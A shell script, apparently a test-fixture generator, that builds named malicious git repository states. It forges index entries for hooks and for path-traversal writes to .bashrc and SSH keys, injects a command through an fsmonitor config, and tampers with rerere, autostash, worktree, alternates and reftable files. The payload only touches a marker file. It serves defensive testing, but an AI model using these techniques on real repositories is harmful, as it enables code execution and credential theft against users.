# Writes files into a git directory that git trusts without checks. $1 names the attack.
blob() { printf "$1" | git hash-object -w --stdin; }
# Writes an index with further names, which git itself would refuse. $1 is the index. The other
# arguments are pairs of a name and its content.
forged() {
    python3 - "$@" <<'END'
import hashlib, struct, subprocess, sys
def blob(text):
    return subprocess.run(['git', 'hash-object', '-w', '--stdin'], input=text.encode(), stdout=-1, check=True).stdout
path, more = sys.argv[1], sys.argv[2:]
listed = subprocess.run(['git', 'ls-files', '-s', '-z'], stdout=-1, check=True).stdout
entries = []
for line in listed.split(b'\0')[:-1]:
    mode, id, rest = line.split(b' ', 2)
    entries.append((rest.split(b'\t', 1)[1], int(mode, 8), id))
for name, text in zip(more[::2], more[1::2]):
    if text == 'repository':
        entries.append((name.encode(), 0o160000, subprocess.run(['git', 'rev-parse', 'HEAD'], stdout=-1).stdout))
    else:
        entries.append((name.encode(), 0o100755, blob(text)))
index = b'DIRC' + struct.pack('>II', 2, len(entries))
for name, mode, id in sorted(entries):
    entry = bytes(24) + struct.pack('>I', mode) + bytes(12) + bytes.fromhex(id.decode()) + struct.pack('>H', len(name)) + name
    index += entry + bytes(8 - len(entry) % 8)
open(path, 'wb').write(index + hashlib.sha1(index).digest())
END
}
evil="#!/bin/sh
touch $HOME/pwned
"
hash=0123456789012345678901234567890123456789
# Makes `git rerere` in the git directory $1 treat the file $2 as one with a conflict.
conflict() {
    mkdir -p ".git/rr-cache/$hash" && : >".git/rr-cache/$hash/preimage"
    printf '%s\t%s\0' "$hash" "$2" >"$1/MERGE_RR"
}
case $1 in
hook) forged .git/index .git/hooks/post-checkout "$evil" ;;
hook-by-another-name) forged .git/index .GIT/hooks/post-checkout "$evil" a/../.git/hooks/post-checkout "$evil" ;;
home) forged .git/index ../../.bashrc "$evil" ;;
absolute) forged .git/index "$HOME/.bashrc" "$evil" ;;
settings) forged .git/index .git/config "[core]
	repositoryformatversion = 0
	fsmonitor = touch $HOME/pwned; false
" ;;
four) forged .git/index ../../.bashrc "$evil" && git update-index --index-version 4 ;;
split) forged .git/index ../../.bashrc "$evil" && git update-index --split-index ;;
worktree) (cd sub && forged "$(git rev-parse --git-dir)/index" ../../../.bashrc "$evil") ;;
module) (cd sub && forged "$(git rev-parse --git-dir)/index" ../../../.bashrc "$evil") ;;
module-alone) forged .git/modules/sub/index ../../../.bashrc "$evil" ;;
secret) forged .git/index ../../.ssh/id_ed25519 x ;;
itself) forged .git/index . repository ;;
rerere) conflict .git ../../.ssh/id_ed25519 ;;
rerere-absolute) conflict .git "$HOME/.ssh/id_ed25519" ;;
rerere-hidden) conflict .git .env ;;
rerere-worktree) conflict "$(git -C sub rev-parse --git-dir)" ../../../.ssh/id_ed25519 ;;
rerere-module)
    mkdir -p ".git/modules/sub/rr-cache/$hash" && : >".git/modules/sub/rr-cache/$hash/preimage"
    conflict .git/modules/sub ../../../.ssh/id_ed25519
    ;;
autostash)
    head=$(git rev-parse HEAD)
    tree=$(printf '100644 blob %s\t.envrc\n100644 blob %s\tfile\n' "$(blob evil)" "$(git rev-parse HEAD:file)" | git mktree)
    saved=$(git commit-tree -p HEAD -m i "HEAD^{tree}")
    git commit-tree -p HEAD -p "$saved" -m w "$tree" >.git/MERGE_AUTOSTASH
    echo "$head" >.git/MERGE_HEAD && : >.git/MERGE_MODE
    ;;
entry) git update-index --add --cacheinfo "100644,$(blob ''),.env" ;;
entry-in-a-folder) git update-index --add --cacheinfo "100644,$(blob ''),deploy/keys/one" ;;
entry-in-a-moved-folder) mv conf conf2 && git update-index --add --cacheinfo "100644,$(blob ''),conf2/.env" ;;
trees)
    python3 - <<'END'
import hashlib, struct, subprocess
def git(*words, **more): return subprocess.run(['git', *words], stdout=-1, check=True, **more).stdout.strip().decode()
blob = git('hash-object', '-w', '--stdin', input=b'EVIL')
tree = git('mktree', input=f'100644 blob {blob}\tmain.c\n'.encode())
index = open('.git/index', 'rb').read()
at = index.index(b'TREE')
content = b'\0' + b'2 1\n' + bytes.fromhex(git('rev-parse', 'HEAD^{tree}')) + b'src\0' + b'1 0\n' + bytes.fromhex(tree)
index = index[:at] + b'TREE' + struct.pack('>I', len(content)) + content
open('.git/index', 'wb').write(index + hashlib.sha1(index).digest())
END
    ;;
skipped)
    git update-index --add --cacheinfo "100644,$(blob evil),.envrc" && git commit -qm work
    git update-index --skip-worktree .envrc
    ;;
assumed)
    git update-index --add --cacheinfo "100644,$(blob evil),.envrc" && git commit -qm work
    git update-index --assume-unchanged .envrc
    ;;
repaired)
    git branch evil && mkdir -p .git/worktrees/evil && cd .git/worktrees/evil
    echo ../.. >commondir && echo "$HOME/other/.git" >gitdir && echo ref: refs/heads/evil >HEAD
    ;;
repaired-relative)
    git branch evil && mkdir -p .git/worktrees/evil && cd .git/worktrees/evil
    echo ../.. >commondir && echo ../../other/.git >gitdir && echo ref: refs/heads/evil >HEAD
    ;;
alternates) echo "$HOME/other/.git/objects" >.git/objects/info/alternates ;;
tables) echo ../../../../victim.ref >>.git/reftable/tables.list ;;
*) exit 1 ;;
esac
echo done
